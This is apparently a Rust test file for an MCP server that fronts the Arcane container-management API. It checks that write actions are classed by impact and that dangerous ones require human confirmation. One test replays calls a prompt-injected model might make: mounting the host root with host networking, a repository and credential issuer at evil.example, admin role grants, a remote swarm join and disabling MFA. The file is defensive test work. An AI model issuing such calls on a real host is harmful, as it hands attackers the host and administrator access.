//! Impact classes (docs/security.md#impact-classes): every write of Arcane 2.8.0 and 1.11.2
//! has a class, the quiet one (`routine`) only with a reason; what can take the host or hand
//! out access is asked on every surface and under every preset — declining sends nothing; a
//! write nobody classed is asked and listed; an operator's reclass takes effect and is said.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::fixtures;
use crate::server_support::{self, Sim, call, is_error, shape, spawn_with, text, writes};
use arcane_catalog::{Catalog, Impact, Policy};

fn build(path: &std::path::Path) -> Catalog {
    arcane_mcp::load::sources::Sources::of_spec(path.to_path_buf())
        .build()
        .expect("the catalog builds")
}

/// Every mutating action of both released documents has a class a person can read — none is
/// `unclassed`, none `reads` — and every `routine` one, asked of nobody, says why in the
/// overlay that declared it.
#[test]
fn every_write_of_both_arcane_versions_has_a_class() {
    for (spec, writes) in [(fixtures::spec_v2(), 183), (fixtures::spec_v1(), 75)] {
        let cat = build(&spec);
        let mutating: Vec<_> = cat.actions.iter().filter(|a| a.safety.mutating).collect();
        assert_eq!(mutating.len(), writes, "{}", spec.display());
        let mut by_class: BTreeMap<Impact, usize> = BTreeMap::new();
        for a in &mutating {
            *by_class.entry(a.safety.impact).or_default() += 1;
            assert!(
                !matches!(a.safety.impact, Impact::Unclassed | Impact::Reads),
                "{} ({}) has no class",
                a.id,
                spec.display()
            );
            if a.safety.impact == Impact::Routine {
                let why = a.safety.impact_reason.as_deref().unwrap_or_default();
                assert!(
                    why.len() >= 10 && !why.contains('\n'),
                    "{} is routine without a one-line reason",
                    a.id
                );
            }
            // The annotation and the question agree.
            assert_eq!(
                a.safety.destructive,
                a.safety.impact == Impact::Destroys,
                "{}",
                a.id
            );
            assert_eq!(
                a.needs_confirmation(),
                a.safety.impact.asks() || a.safety.confirm_always
            );
        }
        // The quiet class is the exception, not the rule.
        let routine = by_class.get(&Impact::Routine).copied().unwrap_or_default();
        assert!(routine * 3 < writes, "{by_class:?}");
    }
}

/// Classes the rules give from what an action takes: each of these would have run unasked
/// before classes existed (found by an outside attack).
#[test]
fn the_attacks_actions_are_classed_by_what_they_can_take() {
    let cat = build(&fixtures::spec_v2());
    for (id, class) in [
        ("gitops_sync.create", Impact::TakesHost),
        ("gitops_sync.update", Impact::TakesHost),
        ("git_repository.create", Impact::TakesHost),
        ("federated_credential.create", Impact::GrantsAccess),
        ("oidc_role_mapping.create", Impact::GrantsAccess),
        ("user.update_role_assignments", Impact::GrantsAccess),
        ("user.update", Impact::GrantsAccess),
        ("swarm.join", Impact::GrantsAccess),
        ("auth.disable_mfa", Impact::GrantsAccess),
        ("auth.logout_all_sessions", Impact::GrantsAccess),
        ("system.upgrade", Impact::ChangesWorkload),
        ("updater.run", Impact::ChangesWorkload),
        ("container.update", Impact::ChangesWorkload),
        // Recreating throws away the container's own layer: destructive, asked.
        ("container.redeploy", Impact::Destroys),
        // Routine stays one call.
        ("container.start", Impact::Routine),
        ("container.stop", Impact::Routine),
        ("container.restart", Impact::Routine),
    ] {
        let a = cat.get(id).unwrap_or_else(|| panic!("{id}"));
        assert_eq!(a.safety.impact, class, "{id}");
    }
}

/// The attack's calls, as a prompt-injected model would make them (with `"confirm": true`),
/// on every surface and under the `deploy` preset: the person is asked each time, and a
/// decline sends nothing to Arcane.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_attacks_calls_are_asked_and_a_decline_sends_nothing() {
    let attacks: Vec<(&str, Value)> = vec![
        (
            "gitops_sync.create",
            json!({"name": "x", "repositoryId": "r1", "branch": "main",
                   "composePath": "compose.yaml", "projectName": "x", "autoSync": true,
                   "preDeployExtraMounts": "/:/host", "preDeployNetworkMode": "host"}),
        ),
        (
            "git_repository.create",
            json!({"name": "x", "url": "https://evil.example/x.git", "authType": "none"}),
        ),
        (
            "federated_credential.create",
            json!({"name": "x", "issuerUrl": "https://evil.example", "subjectMatch": "*",
                   "roleId": "admin", "audiences": ["arcane"], "enabled": true}),
        ),
        (
            "oidc_role_mapping.create",
            json!({"claimValue": "everyone", "roleId": "admin"}),
        ),
        (
            "user.update_role_assignments",
            json!({"userId": "u1", "assignments": [{"roleId": "admin"}]}),
        ),
        (
            "user.update",
            json!({"userId": "u1", "password": "hunter2!!"}),
        ),
        (
            "swarm.join",
            json!({"remoteAddrs": ["203.0.113.9:2377"], "joinToken": "SWMTKN-1-x"}),
        ),
        ("auth.disable_mfa", json!({})),
        ("auth.logout_all_sessions", json!({})),
        ("system.upgrade", json!({})),
        ("updater.run", json!({})),
        ("container.update", json!({"containerId": "web-1"})),
    ];
    use rmcp::model::ElicitationAction::Decline;
    let sim = Sim::start().await;
    for (surface, extra) in [
        ("dynamic", vec![]),
        ("meta", vec![]),
        ("individual", vec![]),
        ("dynamic", vec!["--preset", "deploy"]),
    ] {
        let args = [&["--tool-surface", surface][..], &extra].concat();
        let asker = crate::server_confirm::Asker::new(Some((Decline, false)));
        let client = spawn_with(asker.clone(), &sim.base(), sim.sim.api_key(), &args).await;
        let cat = server_support::catalog();
        for (id, params) in &attacks {
            // A preset that withdraws the action refuses it outright, which is as safe.
            let policy = Policy::new(false, false, &[]).with_allow(&[], None);
            let served = match extra.as_slice() {
                ["--preset", name] => {
                    let p = policy
                        .with_allow(&[], Some(name))
                        .resolve_preset(&cat)
                        .unwrap();
                    p.serves(cat.get(id).unwrap())
                }
                _ => true,
            };
            let before = asker.questions().len();
            let (tool, arguments) = shape(surface, id, params.clone(), true);
            let r = call(&client, &tool, arguments).await;
            let case = format!("{id} on {surface} {extra:?}");
            assert!(is_error(&r), "{case}: {}", text(&r));
            assert_eq!(
                asker.questions().len(),
                before + usize::from(served),
                "{case}: {}",
                text(&r)
            );
        }
        // The question says why it is asked, in the class's words.
        let asked = asker.questions().join("\n");
        let whys: &[&str] = if extra.is_empty() {
            &[
                "It can take the host",
                "It changes who may do what",
                "It changes what runs",
            ]
        } else {
            &["It can take the host"]
        };
        for why in whys {
            assert!(asked.contains(why), "{surface} {extra:?}: {why} in {asked}");
        }
        client.cancel().await.ok();
    }
    let log = sim.requests().await;
    assert!(writes(&log).is_empty(), "{:?}", writes(&log));
}

/// No preset serves an action that can take the host or hand out access without asking, and
/// read-only serves none at all; every mode that can ask asks about them.
#[test]
fn presets_and_read_only_never_serve_host_or_access_unasked() {
    let cat = build(&fixtures::spec_v2());
    let dangerous: Vec<_> = cat
        .actions
        .iter()
        .filter(|a| matches!(a.safety.impact, Impact::TakesHost | Impact::GrantsAccess))
        .collect();
    assert!(dangerous.len() > 60, "{}", dangerous.len());
    let read_only = Policy::new(true, false, &[]);
    for name in cat.presets.keys() {
        let preset = Policy::new(false, false, &[])
            .with_allow(&[], Some(name))
            .resolve_preset(&cat)
            .unwrap();
        for a in &dangerous {
            assert!(!read_only.serves(a), "read-only serves {}", a.id);
            if preset.serves(a) {
                assert!(a.needs_confirmation(), "{name} serves {} unasked", a.id);
            }
        }
    }
    for mode in [
        arcane_catalog::Confirmation::Ask,
        arcane_catalog::Confirmation::AskUnlessConfirmed,
        arcane_catalog::Confirmation::NeverDestructive,
    ] {
        let p = Policy::new(false, false, &[]).with_confirm(mode);
        for a in &dangerous {
            assert!(p.asks_for(a), "{mode:?} does not ask about {}", a.id);
        }
    }
}

/// A newer Arcane's new write is asked until someone classes it: `unclassed`, confirmed like
/// any asked class, and named by `check` and by `catalog --diff`.
#[test]
fn a_write_nobody_classed_is_asked_and_listed() {
    let dir = tempfile::tempdir().unwrap();
    let old = fixtures::spec_v2();
    let mut doc: Value = serde_json::from_slice(&std::fs::read(&old).unwrap()).unwrap();
    doc["paths"]["/environments/{id}/reactor/frobnicate"] = json!({
        "post": {
            "operationId": "frobnicate-reactor",
            "summary": "Frobnicate the reactor",
            "parameters": [{"name": "id", "in": "path", "required": true, "schema": {"type": "string"}}],
            "responses": {"200": {"description": "ok"}}
        }
    });
    let new = dir.path().join("newer.json");
    std::fs::write(&new, serde_json::to_vec(&doc).unwrap()).unwrap();
    let cat = build(&new);
    let a = cat.get("reactor.frobnicate").expect("derived");
    assert_eq!(a.safety.impact, Impact::Unclassed);
    assert!(a.needs_confirmation());
    assert_eq!(
        cat.unclassed().map(|a| a.id.as_str()).collect::<Vec<_>>(),
        ["reactor.frobnicate"]
    );

    let run = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_arcane-mcp"))
            .args(args)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let new = new.to_str().unwrap();
    let check = run(&["check", "--spec", new]);
    assert!(
        check.contains("1 unclassed write") && check.contains("reactor.frobnicate"),
        "{check}"
    );
    let diff = run(&["catalog", "--spec", new, "--diff", old.to_str().unwrap()]);
    assert!(
        diff.contains("unclassed writes") && diff.contains("? reactor.frobnicate"),
        "{diff}"
    );
    // The released document has none.
    let check = run(&["check", "--spec", old.to_str().unwrap()]);
    assert!(!check.contains("unclassed"), "{check}");
}

/// An operator's overlay reclasses in both directions: the new class decides the question,
/// and `check` names each change, with the file, line and reason; one that stops asking is
/// a warning in the server's log.
#[test]
fn an_operator_reclasses_and_it_is_said() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ours.yaml"),
        "actions:\n  container.start: {impact: grants-access}\n  container.update:\n    impact: routine\n    impactReason: our lab host, rebuilt nightly\n",
    )
    .unwrap();
    let cat = server_support::with_operator_overlays(dir.path())
        .build()
        .unwrap();
    let start = cat.get("container.start").unwrap();
    let update = cat.get("container.update").unwrap();
    assert!(start.needs_confirmation() && start.safety.impact == Impact::GrantsAccess);
    assert!(!update.needs_confirmation() && update.safety.impact == Impact::Routine);
    let said: Vec<String> = cat.reclassed.iter().map(ToString::to_string).collect();
    assert_eq!(said.len(), 2, "{said:?}");
    assert!(
        said.iter().any(|s| s.contains("ours.yaml:2")
            && s.contains("container.start reclassed routine → grants-access")),
        "{said:?}"
    );
    assert!(
        said.iter().any(|s| s
            .contains("container.update reclassed changes-workload → routine: no longer asked")
            && s.contains("our lab host")),
        "{said:?}"
    );
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_arcane-mcp"))
        .args(["check", "--spec", fixtures::spec_v2().to_str().unwrap()])
        .arg("--overrides")
        .arg(dir.path())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap();
    let check = String::from_utf8_lossy(&out.stdout);
    assert!(check.contains("container.update reclassed"), "{check}");
    // A misspelt class fails the load, naming the file.
    std::fs::write(
        dir.path().join("ours.yaml"),
        "actions:\n  container.start: {impact: harmless}\n",
    )
    .unwrap();
    let err = server_support::with_operator_overlays(dir.path())
        .build()
        .err()
        .map(|e| format!("{e:#}"))
        .expect("refused");
    assert!(err.contains("ours.yaml"), "{err}");
}
